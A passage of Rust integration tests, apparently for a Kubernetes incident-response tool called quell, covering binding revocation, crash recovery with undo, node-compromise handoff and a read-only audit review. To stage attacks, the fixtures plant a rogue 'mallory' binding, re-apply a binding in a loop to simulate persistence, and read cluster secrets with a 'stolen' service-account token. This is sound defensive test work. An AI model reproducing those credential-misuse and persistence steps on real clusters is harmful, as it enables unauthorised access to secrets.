    for config in [&first, &second] {
        let called = called(config, &["-n", &name, "get", "secret", "bank"], "");
        assert!(called.err.contains("Forbidden"), "{}", called.err);
    }
    verified(&desk);
    let undone = desk.quell(&["undo", "last", "--yes"]);
    assert_eq!(scene.bindings(), before, "{}", undone.err);
    for config in [&first, &second] {
        assert!(called(config, &["-n", &name, "get", "secret", "bank", "-o", "name"], "").ok);
    }
}

#[test]
#[ignore = "needs the real cluster (tests/cluster/README.md)"]
fn a_binding_that_comes_back_is_noticed_and_not_reported_as_revoked() {
    let scene = Scene::set("acc-back", false);
    let name = scene.name().to_owned();
    let mallory = format!("{name}-mallory");
    create(&[binding("RoleBinding", &name, "mallory", "edit", &json!([user(&mallory)]))]);
    let kept = binding("RoleBinding", &name, "on-call", "view", &json!([user(&mallory)])).to_string();
    let (over, held) = (AtomicBool::new(false), std::sync::Mutex::new(0_u32));
    let keep = || {
        let arguments = ["apply", "--server-side", "--force-conflicts", "--field-manager=team-operator", "-f", "-"];
        let called = called(&cluster().admin(), &arguments, &kept);
        *held.lock().unwrap() += u32::from(called.ok);
    };
    keep();
    let desk = Desk::new(&scene.ns);
    let ran = std::thread::scope(|scope| {
        scope.spawn(|| {
            while !over.load(Ordering::Relaxed) {
                keep();
                std::thread::sleep(Duration::from_millis(100));
            }
        });
        let ran = playbook(&desk, &[&format!("subject={mallory}"), "watch=20s"]);
        over.store(true, Ordering::Relaxed);
        ran
    });
    assert!(*held.lock().unwrap() > 1, "the controller of this test has not worked");
    assert_eq!((ran.code, desk.steps()["revoke"].as_str()), (7, "refuted"), "{}", ran.err);
    let revoked = outputs(&desk, "revoke");
    let back = revoked["came_back"].as_object().unwrap();
    assert_eq!(back.keys().collect::<Vec<_>>(), [&format!("RoleBinding {name}/on-call")]);
    assert!(back.values().all(|w| w.as_str().unwrap().contains("team-operator")), "{back:?}");
    assert!(ran.err.contains("names acc-back-mallory again, written by team-operator"), "{}", ran.err);
    assert!(scene.ns.get("rolebinding", "mallory").is_none(), "what stays away is gone\n{}", ran.err);
    assert!(!ran.err.contains("revoke verified"), "{}", ran.err);
}

#[test]
#[ignore = "needs the real cluster (tests/cluster/README.md)"]
fn a_run_that_is_killed_anywhere_ends_as_an_undisturbed_one() {
    if !cfg!(feature = "failpoints") {
        panic!("build with --features failpoints");
    }
    let stride = std::env::var("QUELL_TEST_CRASH_STRIDE").ok().and_then(|s| s.parse().ok()).unwrap_or(9);
    let one = |kill: Option<(&str, usize)>| {
        let scene = Scene::set("acc-crash", false);
        let before = scene.bindings();
        let was = scene.ns.get("serviceaccount", "robot").unwrap()["metadata"]["uid"].clone();
        scene.token_in_secret();
        let desk = Desk::new(&scene.ns);
        let subject = format!("subject={}/robot", scene.name());
        let all = arguments(&desk, &[&subject, "recreate-account=true", "watch=1s"]);
        let mut command = desk.command(&all.iter().map(String::as_str).collect::<Vec<_>>());
        if let Some((when, seq)) = kill {
            command.env("QUELL_FAILPOINT", format!("{when}:{seq}"));
        }
        let ended = command.output().unwrap();
        let killed = ended.status.code().is_none();
        let mut err = String::from_utf8_lossy(&ended.stderr).into_owned();
        if killed {
            let resumed = desk.quell(&["resume", "last", "--yes", "--max-risk", "destructive"]);
            assert_eq!(resumed.code, 7, "{kill:?}\n{}", resumed.err);
            err.push_str(&resumed.err);
        }
        let is = scene.ns.get("serviceaccount", "robot").map(|a| a["metadata"]["uid"].clone()).unwrap_or_default();
        let anew = is.is_string() && is != was;
        let left = (desk.steps(), scene.bindings(), anew, scene.ns.get("secret", "robot-token").is_none());
        verified(&desk);
        // Undo gives every binding back, whatever the run was interrupted by.
        let undone = desk.quell(&["undo", "last", "--yes"]);
        assert_eq!(scene.bindings(), before, "{kill:?}\n{}", undone.err);
        let text = std::fs::read_to_string(desk.folder().join("journal.jsonl")).unwrap();
        let records = text.lines().filter(|l| !l.contains(r#""kind":"undo""#)).count();
        (left, killed, records, err)
    };
    let (expected, _, records, err) = one(None);
    assert_eq!(expected.0["revoke"], "refuted", "what a group gives is left\n{err}");
    assert!(expected.2 && expected.3, "{err}");
    assert!(records > 20, "{records} records");
    let mut kills = 0;
    for i in (2..records * 2).step_by(stride) {
        let kill = (if i % 2 == 0 { "after" } else { "before" }, i / 2);
        let (left, killed, _, err) = one(Some(kill));
        assert_eq!(left, expected, "{kill:?}\n{err}");
        kills += usize::from(killed);
        // Past the end of the run nothing is killed any more.
        if !killed {
            break;
        }
    }
    assert!(kills > 3, "{kills} kills");
}

#[test]
#[ignore = "needs the real cluster (tests/cluster/README.md)"]
fn the_credential_of_a_node_leads_into_node_compromise() {
    let scene = Scene::set("acc-node", false);
    let desk = Desk::new(&scene.ns);
    let audit = format!("audit-log={}", cluster().audit_log().display());
    let ran = playbook(&desk, &["subject=system:node:node-2", &audit, "watch=1s"]);
    // Nobody is at the keyboard: it stops where a person is needed, and says what for.
    assert_eq!(ran.code, 5, "{}", ran.err);
    assert_eq!(outputs(&desk, "identify")["node"], "node-2", "{}", ran.err);
    assert!(ran.err.contains("ask a person: Run `quell run node-compromise --set node=node-2`"), "{}", ran.err);
    assert_eq!(desk.steps()["revoke"], "unproved", "{}", ran.err);
    assert!(ran.err.contains("telling rights are a node's own, which need none: end node node-2"), "{}", ran.err);
    // What a kubelet does by itself is nothing that was left behind.
    let all = footholds(&desk);
    let noise = |f: &&Value| ["events", "nodes", "csinodes", "leases"].iter().any(|r| f["resource"] == *r);
    assert!(all.iter().find(noise).is_none(), "{all:#?}");
}

#[test]
#[ignore = "needs the real cluster (tests/cluster/README.md)"]
fn an_audit_review_reads_only_and_says_who_read_a_secret() {
    let scene = Scene::set("acc-review", true);
    let name = scene.name().to_owned();
    let bound = scene.bound_token();
    assert!(scene.stolen(&bound, &["get", "secret", "bank", "-o", "name"], "").ok);
    assert!(scene.stolen(&bound, &["get", "secrets", "-o", "name"], "").ok);
    let reader = certificate_user("acc-review-auditor", &[]);
    let printed = quell()
        .args(["runbook", "rbac", "audit-review", "-n", &name, "--user", "acc-review-auditor"])
        .output()
        .unwrap();
    assert!(printed.status.success());
    apply(&printed.stdout);
    let before = scene.bindings();
    let desk = Desk::new(&scene.ns);
    let audit = format!("audit-log={}", cluster().audit_log().display());
    let window = scene.window();
    let secret = format!("secret={name}/bank");
    let arguments = ["run", "audit-review", "-n", &name, "--set", &secret, "--set", &audit, "--set", &window];
    let output = desk.command(&arguments).env("KUBECONFIG", &reader).output().unwrap();
    let err = String::from_utf8_lossy(&output.stderr).into_owned();
    assert_eq!(output.status.code(), Some(0), "{err}");
    assert_eq!(desk.steps()["audit"], "verified", "{err}");
    assert!(err.contains(&format!("{} (2)", scene.robot())), "{err}");
    let answer = desk.document("data/audit/audit.answer.json");
    assert_eq!(answer["users"][scene.robot().as_str()], 2, "{answer:#}");
    assert!(answer["coverage"]["cannotBeKnown"].as_array().unwrap().is_empty(), "{answer:#}");
    let bundle = desk.bundle();
    let listed = desk.quell(&["bundle", "list", bundle.to_str().unwrap()]);
    for path in ["data/audit/audit.slice.jsonl", "data/audit/audit.answer.json"] {
        assert!(listed.out.contains(path), "{}", listed.out);
    }
    verified(&desk);
    // By the API server's own account, quell wrote nothing; access reviews are questions in the form of a write.
    let ours = audit_lines(&["\"userAgent\":\"quell/", "acc-review-auditor"]);
    assert!(!ours.is_empty());
    for call in &ours {
        let (verb, group) =
            (call["verb"].as_str().unwrap(), call["objectRef"]["apiGroup"].as_str().unwrap_or_default());
        let asks = matches!(group, "authorization.k8s.io" | "authentication.k8s.io") && verb == "create";
        assert!(asks || ["get", "list", "watch"].contains(&verb), "{call:#}");
    }
    assert_eq!(scene.bindings(), before);
    kubectl(&["delete", "clusterrolebinding,clusterrole", "quell-audit-review", "--ignore-not-found"]);
}
